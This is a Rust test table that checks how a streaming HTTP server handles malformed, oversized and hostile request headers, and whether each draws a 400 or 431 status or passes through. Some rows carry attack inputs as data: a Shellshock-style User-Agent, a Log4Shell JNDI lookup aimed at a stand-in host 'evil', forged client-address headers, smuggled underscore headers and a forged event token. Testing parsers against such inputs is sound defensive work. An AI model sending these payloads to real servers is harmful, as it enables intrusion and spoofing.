//! C3, C5: header lines, too odd, too many, too long.

use super::table::Expect::{Gap, Status, Stream};
use super::table::{Row, headers, row};

pub(super) fn rows() -> Vec<Row> {
    lines().into_iter().chain(sizes()).chain(places()).collect()
}

fn lines() -> Vec<Row> {
    let bad = |name, lines: &[u8]| row(name, headers(lines), Status(400));
    let good = |name, lines: &[u8]| row(name, headers(lines), Stream);
    vec![
        bad("no colon", b"X-Nothing\r\n"),
        bad("no name", b": x\r\n"),
        bad("a space in the name", b"X Y: z\r\n"),
        bad("a bracket in the name", b"X(Y): z\r\n"),
        bad("NUL in the value", b"X: a\0b\r\n"),
        bad("a bell in the value", b"X: a\x07b\r\n"),
        bad("an escape in the value", b"User-Agent: \x1b[2J\r\n"),
        bad("delete in the value", b"X: a\x7fb\r\n"),
        bad("a lone carriage return", b"X: a\rb\r\n"),
        bad("a folded value", b"X: a\r\n b\r\n"),
        bad("a byte beyond ASCII in the name", b"X\xe4: a\r\n"),
        bad("two carriage returns", b"X: a\r\r\n"),
        good("bytes beyond ASCII in the value", b"X: \xe4\xff\r\n"),
        good("a tab in the value", b"X: a\tb\r\n"),
        good("an empty value", b"X:\r\n"),
        good(
            "an underscore in the name",
            b"X_Tenant: smuggled\r\nX_Real_Ip: 6.6.6.6\r\n",
        ),
        good(
            "a forged client",
            b"X-Forwarded-For: 6.6.6.6\r\nForwarded: for=6.6.6.6\r\n",
        ),
        good(
            "a cookie and a credential",
            b"Cookie: sid=secret\r\nAuthorization: Bearer secret\r\n",
        ),
        good("a range", b"Range: bytes=0-\r\nIf-None-Match: *\r\n"),
        good(
            "a coding",
            b"Accept-Encoding: gzip, br\r\nAccept-Charset: gbk\r\n",
        ),
        good("an override", b"X-HTTP-Method-Override: DELETE\r\n"),
        good("a shell", b"User-Agent: () { :; }; echo x\r\n"),
        good("a lookup", b"User-Agent: ${jndi:ldap://evil/x}\r\n"),
    ]
}

fn sizes() -> Vec<Row> {
    let many = |count: usize| "X-Many: 1\r\n".repeat(count);
    let long = |length: usize| format!("X-Long: {}\r\n", "x".repeat(length));
    // Host and Accept are there already.
    vec![
        row("64 headers", headers(many(62)), Stream),
        row("65 headers", headers(many(63)), Status(431)),
        row("a thousand headers", headers(many(1000)), Status(431)),
        row("a value of 8 KiB", headers(long(8 << 10)), Stream),
        row("a value of 20 KiB", headers(long(20 << 10)), Status(431)),
        row("a value of 500 KiB", headers(long(500 << 10)), Status(431)),
        row(
            "a name of 20 KiB",
            headers(format!("{}: x\r\n", "x".repeat(20 << 10))),
            Status(431),
        ),
    ]
}

fn places() -> Vec<Row> {
    let long = format!("Last-Event-ID: {}\r\n", "7".repeat(2 << 10));
    let gap = |name, lines: &[u8]| row(name, headers(lines), Gap);
    vec![
        gap("a place of 2 KiB", long.as_bytes()),
        gap(
            "a place of 9,000 bytes",
            format!("Last-Event-ID: {}\r\n", "7".repeat(9000)).as_bytes(),
        ),
        gap("a place with a tab", b"Last-Event-ID: a\tb\r\n"),
        gap("a place that is Latin", b"Last-Event-ID: caf\xe9\r\n"),
        gap("two places", b"Last-Event-ID: 1\r\nLast-Event-ID: 2\r\n"),
        gap(
            "a forged token",
            b"Last-Event-ID: ~ffffffffffffffff.18446744073709551615\r\n",
        ),
        row("an empty place", headers("Last-Event-ID:\r\n"), Stream),
        // Such a head is not HTTP: the parser refuses it before anybody can ask what it means.
        row(
            "a place with a control byte",
            headers("Last-Event-ID: \x01\r\n"),
            Status(400),
        ),
    ]
}
